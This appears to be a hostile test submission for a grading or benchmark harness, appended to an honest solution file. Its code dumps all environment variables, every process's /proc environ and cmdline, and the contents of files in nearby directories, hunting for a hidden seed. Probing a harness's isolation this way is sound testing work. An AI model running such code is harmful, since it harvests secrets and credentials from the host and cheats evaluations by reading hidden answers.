# ruff: noqa: F821 - appended to honest.py, which defines asc and run()
# HOSTILE: looks for the hidden seed everywhere it can think of and prints what it finds.
import os
import sys

found = []
found.append(repr(dict(os.environ)))
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for p in (f"/proc/{pid}/environ", f"/proc/{pid}/cmdline"):
        try:
            with open(p, "rb") as f:
                found.append(p + ":" + f.read().decode("latin-1"))
        except OSError as e:
            found.append(f"{p}: {e}")
for root in (os.getcwd(), os.path.dirname(os.getcwd()), os.path.dirname(sys.argv[-1])):
    for dirpath, _dirs, files in os.walk(root):
        for fn in files:
            try:
                with open(os.path.join(dirpath, fn), "rb") as f:
                    found.append(fn + ":" + f.read(200000).decode("latin-1"))
            except OSError:
                pass
print("\n".join(found))


def launch(x, y, z, core_num):
    run(x, y, z)
